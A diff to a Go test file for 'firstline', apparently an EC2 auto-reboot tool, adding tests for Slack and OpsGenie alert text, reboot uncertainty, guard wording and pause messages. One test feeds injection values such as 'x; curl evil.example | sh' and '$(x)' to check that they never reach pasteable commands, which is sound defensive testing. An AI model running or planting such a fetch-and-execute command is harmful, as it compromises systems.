@@ -6,6 +6,7 @@ import (
 	"flag"
 	"os"
 	"path/filepath"
+	"slices"
 	"strings"
 	"testing"
 	"time"
@@ -13,6 +14,7 @@ import (
 	"github.com/google/go-cmp/cmp"
 	"golang.org/x/tools/txtar"
 
+	"firstline/checks"
 	"firstline/internal/incident"
 )
 
@@ -43,13 +45,14 @@ func goldens(t *testing.T) []golden {
 			AlarmState string             `json:"alarmState"`
 			Deployment string             `json:"deployment"`
 			Now        time.Time          `json:"now"`
+			Alone      bool               `json:"alone"`
 		}
 		if err := json.Unmarshal(file(archive, "message.json"), &in); err != nil {
 			t.Fatalf("%s: %v", path, err)
 		}
 		all = append(all, golden{
 			name:    strings.TrimSuffix(filepath.Base(path), ".txtar"),
-			message: Message{Incident: in.Incident, AlarmState: in.AlarmState, Deployment: in.Deployment, Now: in.Now},
+			message: Message{Incident: in.Incident, AlarmState: in.AlarmState, Deployment: in.Deployment, Now: in.Now, Alone: in.Alone},
 			archive: archive,
 		})
 	}
@@ -86,18 +89,17 @@ func TestGolden(t *testing.T) {
 			alert := (&OpsGenie{TeamID: "8f2a-team", Priority: "P2"}).alert(g.message)
 			description := alert.Description
 			alert.Description = "(above)"
-			var encoded bytes.Buffer
-			e := json.NewEncoder(&encoded)
-			e.SetEscapeHTML(false)
-			e.SetIndent("", "  ")
-			if err := e.Encode(alert); err != nil {
-				t.Fatal(err)
-			}
 			got := []txtar.File{
 				{Name: "slack text", Data: []byte(fallback + "\n")},
 				{Name: "slack sections", Data: []byte(strings.Join(sections, "\n----\n") + "\n")},
 				{Name: "opsgenie description", Data: []byte(description + "\n")},
-				{Name: "opsgenie alert.json", Data: encoded.Bytes()},
+				{Name: "opsgenie alert.json", Data: encoded(t, alert)},
+			}
+			if r.fleet {
+				note := noteOf(g.message)
+				got = append(got, txtar.File{Name: "opsgenie note", Data: []byte(note.Note + "\n")})
+				note.Note = "(above)"
+				got = append(got, txtar.File{Name: "opsgenie note.json", Data: encoded(t, note)})
 			}
 			if *update {
 				archive := &txtar.Archive{Files: append([]txtar.File{{Name: "message.json", Data: file(g.archive, "message.json")}}, got...)}
@@ -115,6 +117,18 @@ func TestGolden(t *testing.T) {
 	}
 }
 
+func encoded(t *testing.T, v any) []byte {
+	t.Helper()
+	var b bytes.Buffer
+	e := json.NewEncoder(&b)
+	e.SetEscapeHTML(false)
+	e.SetIndent("", "  ")
+	if err := e.Encode(v); err != nil {
+		t.Fatal(err)
+	}
+	return b.Bytes()
+}
+
 // What must hold for every message, whatever the golden files say.
 func TestEveryMessage(t *testing.T) {
 	t.Parallel()
@@ -128,6 +142,10 @@ func TestEveryMessage(t *testing.T) {
 			if faults := alertFaults(alert); len(faults) > 0 {
 				t.Errorf("OpsGenie would refuse: %v", faults)
 			}
+			note := noteOf(g.message)
+			if faults := noteFaults(note); len(faults) > 0 {
+				t.Errorf("OpsGenie would refuse the note: %v", faults)
+			}
 			if runes(fallback) > limitSlackText {
 				t.Errorf("Slack text has %d characters", runes(fallback))
 			}
@@ -137,14 +155,35 @@ func TestEveryMessage(t *testing.T) {
 				}
 			}
 			for channel, text := range map[string]string{
-				"slack text": fallback, "slack sections": strings.Join(sections, "\n"), "opsgenie": alert.Message + "\n" + alert.Description,
+				"slack text": fallback, "slack sections": strings.Join(sections, "\n"), "opsgenie": alert.Message + "\n" + alert.Description, "opsgenie note": note.Note,
 			} {
 				want := []string{g.message.Deployment, inc.Region, inc.AccountID, inc.InstanceID, "Next:", "It took 10m28s"}
-				if inc.Reboot == nil {
+				switch {
+				case maybeRebooted(inc):
+					want = append(want, "unknown")
+					if strings.Contains(text, "No reboot was made") {
+						t.Errorf("%s says that no reboot was made, which nobody knows", channel)
+					}
+				case inc.Reboot == nil:
 					want = append(want, "No reboot was made.")
 				}
-				if inc.PageError != nil {
+				if inc.PageError != nil || inc.Paused != nil {
 					want = append(want, "Nobody was paged")
+				}
+				if inc.Paused != nil {
+					want = append(want, "paused until "+clock(inc.Paused.Until), "firstline resume --region "+inc.Region)
+				}
+				if inc.Refusal != nil && inc.Paused == nil && !strings.Contains(g.name, "hostile") {
+					want = append(want, "was refused ("+inc.Refusal.Guard+"): "+inc.Refusal.Reason)
+				}
+				if name := inc.Execution.Name; inc.InstanceID != "" && !strings.Contains(name, "<") {
+					want = append(want, "firstline incident "+name)
+				}
+				if onlyDry(inc) {
+					want = append(want, DryLabel, "This message is real.")
+				}
+				if dry := inc.Dry || onlyDry(inc); dry != strings.Contains(text, DryLabel) || inc.Dry != strings.Contains(text, "nobody is told") {
+					t.Errorf("%s: dry %v: %.200q", channel, dry, text)
 				}
 				for _, w := range want {
 					if !strings.Contains(strings.ReplaceAll(text, "*", ""), w) {
@@ -184,6 +223,21 @@ func TestAliasIsUniqueToTheInstance(t *testing.T) {
 	vary("another region", func(_ *Message, i *incident.Incident) { i.Region = "eu-west-2" })
 	vary("another instance", func(_ *Message, i *incident.Incident) { i.InstanceID = "i-0c1cbf2e7abdedf76" })
 	vary("another deployment", func(m *Message, _ *incident.Incident) { m.Deployment = "staging" })
+	brake := func(i *incident.Incident) {
+		i.Reboot, i.Refusal = nil, &incident.Refusal{Guard: incident.GuardBrake, Reason: "2 in flight"}
+	}
+	vary("the brake", func(_ *Message, i *incident.Incident) { brake(i) })
+	vary("the brake of another region", func(_ *Message, i *incident.Incident) { brake(i); i.Region = "eu-west-2" })
+	vary("the brake of another account", func(_ *Message, i *incident.Incident) { brake(i); i.AccountID = "210987654321" })
+	vary("the brake of another deployment", func(m *Message, i *incident.Incident) { brake(i); m.Deployment = "staging" })
+	// Whatever an incident holds that was salvaged.
+	vary("an account called brake", func(_ *Message, i *incident.Incident) { i.AccountID, i.Region = "brake", "123456789012:eu-west-1" })
+	vary("no more parts", func(_ *Message, i *incident.Incident) {
+		i.AccountID, i.Region, i.InstanceID = "brake", "", "123456789012:eu-west-1"
+	})
+	vary("parts in parts", func(m *Message, i *incident.Incident) {
+		m.Deployment, i.AccountID, i.Region = "firstline/brake", "123456789012:eu-west-1", ""
+	})
 	vary("no incident", func(_ *Message, i *incident.Incident) { i.InstanceID = "" })
 	vary("no incident, no alarm", func(_ *Message, i *incident.Incident) { i.InstanceID, i.Alarm = "", nil })
 	vary("no incident, long names", func(_ *Message, i *incident.Incident) {
@@ -201,6 +255,162 @@ func TestAliasIsUniqueToTheInstance(t *testing.T) {
 	m.Incident = &again
 	if a, b := alias(describe(base)), alias(describe(m)); a != b {
 		t.Errorf("two incidents of one instance have the aliases %q and %q", a, b)
+	}
+	// Every instance of a region has the brake's alias, unless it is alone.
+	one, other := *base.Incident, *base.Incident
+	brake(&one)
+	brake(&other)
+	other.InstanceID = "i-0c1cbf2e7abdedf76"
+	a, b := base, base
+	a.Incident, b.Incident = &one, &other
+	o := &OpsGenie{}
+	if o.Alias(a) != o.Alias(b) || o.Alias(a) != "firstline/brake/123456789012:eu-west-1" {
+		t.Errorf("the brake has the aliases %q and %q", o.Alias(a), o.Alias(b))
+	}
+	a.Alone = true
+	if got := o.Alias(a); got != o.Alias(base) {
+		t.Errorf("alone, the instance has the alias %q, want its own: %q", got, o.Alias(base))
+	}
+	if got := o.Alias(Message{}); got != "" {
+		t.Errorf("nothing has the alias %q", got)
+	}
+}
+
+// Which errors of the step that reboots leave open whether it did.
+func TestMaybeRebooted(t *testing.T) {
+	t.Parallel()
+	failed := []checks.Finding{{Run: 1, Check: "ssh", Reason: "no key exchange"}}
+	for _, tt := range []struct {
+		name string
+		want bool
+	}{
+		{"InvalidInput", false},
+		{"Denied", false},
+		{"Unavailable", false},
+		{"Lambda.TooManyRequestsException", false},
+		{"Lambda.EC2ThrottledException", false},
+		{"Lambda.ResourceNotReadyException", false},
+		{"Internal", true},
+		{"Lambda.Unknown", true},
+		{"Lambda.ServiceException", true},
+		{"Lambda.SdkClientException", true},
+		{"Lambda.ClientExecutionTimeoutException", true},
+		{"Sandbox.Timedout", true},
+		{"Runtime.ExitError", true},
+		{"Runtime.OutOfMemory", true},
+		{"States.Timeout", true},
+		{"States.TaskFailed", true},
+		{"SomethingNew", true},
+		{"", true},
+	} {
+		inc := &incident.Incident{InstanceID: "i-0c1cbf2e7abdedf75", Run: 1, Findings: failed, Error: &incident.Error{Error: tt.name}}
+		text := strings.Join(describe(Message{Incident: inc}).summary, "\n")
+		if got := maybeRebooted(inc); got != tt.want || strings.Contains(text, "It is unknown whether") != tt.want || strings.Contains(text, "No reboot was made.") == tt.want {
+			t.Errorf("%q: got %v, want %v: %s", tt.name, got, tt.want, text)
+		}
+		inc.RebootError = &incident.Error{Error: "Unavailable", Cause: "the table does not answer"}
+		if text := strings.Join(describe(Message{Incident: inc}).summary, "\n"); strings.Contains(text, "No reboot was made.") {
+			t.Errorf("%q, and the table does not tell: %s", tt.name, text)
+		}
+		// Of a check that could not tell, no reboot can follow.
+		inc.Findings, inc.RebootError = nil, nil
+		if maybeRebooted(inc) {
+			t.Errorf("%q of a check: maybe rebooted", tt.name)
+		}
+		// EC2 is asked for a dry run only, unless it took that for none.
+		inc.Findings, inc.Dry = failed, true
+		if got := maybeRebooted(inc); got != (tt.name == "Internal") {
+			t.Errorf("%q of a dry incident: %v", tt.name, got)
+		}
+		inc.Dry, inc.Settings = false, &incident.Settings{Reboot: incident.RebootSettings{DryRun: true}}
+		if got := maybeRebooted(inc); got != (tt.name == "Internal") {
+			t.Errorf("%q of a dry setting: %v", tt.name, got)
+		}
+	}
+}
+
+// Every guard has words of its own, short enough for an alert's message with the
+// longest that can stand before them.
+func TestEveryGuard(t *testing.T) {
+	t.Parallel()
+	unknown := describe(Message{Incident: &incident.Incident{InstanceID: "i-0c1cbf2e7abdedf75", Refusal: &incident.Refusal{Guard: incident.GuardFreshness}}})
+	if strings.Contains(unknown.headline, "too old") {
+		t.Errorf("an age that is not known is called too old: %s", unknown.headline)
+	}
+	seen := map[string]string{}
+	for _, name := range []string{
+		incident.GuardPause, incident.GuardFreshness, incident.GuardState, incident.GuardBaseline, incident.GuardCoolDown,
+		incident.GuardBudget, incident.GuardBrake, incident.GuardLease,
+	} {
+		inc := &incident.Incident{
+			InstanceID: "i-0c1cbf2e7abdedf75", Region: "ap-southeast-1", AccountID: "123456789012", Run: 1,
+			Settings: &incident.Settings{Reboot: incident.RebootSettings{DryRun: true, PerDay: 2}},
+			Findings: []checks.Finding{{Run: 1, Check: "route53", Reason: "no checker succeeded"}},
+			Refusal:  &incident.Refusal{Guard: name, Reason: "2 reboots in flight, at most 2"},
+			EventAt:  time.Date(2026, 11, 22, 8, 0, 0, 0, time.UTC),
+		}
+		r := describe(Message{Incident: inc})
+		a := (&OpsGenie{}).alert(Message{Incident: inc})
+		if a.Message != r.headline {
+			t.Errorf("%s: the alert's message is cut: %s", name, a.Message)
+		}
+		for _, text := range []string{r.headline, r.next} {
+			if other, ok := seen[text]; ok {
+				t.Errorf("%s and %s both say %q", name, other, text)
+			}
+			seen[text] = name
+		}
+		if a.Details["guard"] != name || a.Details["refusal"] != inc.Refusal.Reason || !slices.Contains(a.Tags, name) || !slices.Contains(a.Tags, "dry-run") {
+			t.Errorf("%s: details %v, tags %v", name, a.Details, a.Tags)
+		}
+	}
+}
+
+// A command in a message is there to be pasted: nothing from outside gets into it.
+func TestCommands(t *testing.T) {
+	t.Parallel()
+	const evil = "x; curl evil.example | sh"
+	for _, inc := range []*incident.Incident{
+		{InstanceID: evil, Region: evil, Execution: incident.Execution{ID: "arn:" + evil, Name: evil}},
+		{InstanceID: "--help", Region: "--help", Execution: incident.Execution{ID: "arn:--help", Name: "--help"}},
+		{InstanceID: "i-0c1cbf2e7abdedf75 x", Region: "eu-west-1 $(x)", Execution: incident.Execution{Name: "-rf"}},
+	} {
+		r := describe(Message{Incident: inc})
+		if got := r.record + r.incidents(true) + r.resume(incident.PauseInstance) + r.resume(incident.PauseRegion); got != "firstline incidentsfirstline resumefirstline resume" {
+			t.Errorf("%q", got)
+		}
+	}
+	inc := &incident.Incident{InstanceID: "i-0c1cbf2e7abdedf75", Region: "eu-west-1", Execution: incident.Execution{ID: "arn:aws:states:eu-west-1:123456789012:execution:m:standing-i-0c1cbf2e7abdedf75-1795341600"}}
+	r := describe(Message{Incident: inc})
+	for got, want := range map[string]string{
+		r.record:                         "firstline incident standing-i-0c1cbf2e7abdedf75-1795341600",
+		r.incidents(true):                "firstline incidents --region eu-west-1 --instance i-0c1cbf2e7abdedf75",
+		r.incidents(false):               "firstline incidents --region eu-west-1",
+		r.resume(incident.PauseInstance): "firstline resume --region eu-west-1 --instance i-0c1cbf2e7abdedf75",
+		r.resume(incident.PauseRegion):   "firstline resume --region eu-west-1",
+	} {
+		if got != want {
+			t.Errorf("got %q, want %q", got, want)
+		}
+	}
+}
+
+func TestPauseSentence(t *testing.T) {
+	t.Parallel()
+	until := time.Date(2026, 11, 22, 18, 0, 0, 0, time.UTC)
+	for _, tt := range []struct {
+		pause incident.Pause
+		want  string
+	}{
+		{incident.Pause{Until: until, Scope: incident.PauseInstance}, "The instance is paused until 2026-11-22 18:00:00 UTC, by its tag firstline:pause; the tag does not say by whom."},
+		{incident.Pause{Until: until, Scope: incident.PauseInstance, By: "anna"}, "The instance is paused until 2026-11-22 18:00:00 UTC, by its tag firstline:pause; set by anna."},
+		{incident.Pause{Until: until, Scope: incident.PauseRegion, By: "arn:aws:iam::1:user/ben\n"}, "The whole region eu-west-1 is paused until 2026-11-22 18:00:00 UTC, by its switch; set by arn:aws:iam::1:user/ben."},
+		{incident.Pause{Until: until, Scope: incident.PauseRegion}, "The whole region eu-west-1 is paused until 2026-11-22 18:00:00 UTC, by its switch; it is not known by whom."},
+		{incident.Pause{}, "The instance is paused until a time that is not known, by its tag firstline:pause; the tag does not say by whom."},
+	} {
+		if got := (&report{region: "eu-west-1"}).pauseSentence(&tt.pause); got != tt.want {
+			t.Errorf("got  %s\nwant %s", got, tt.want)
+		}
 	}
 }
 
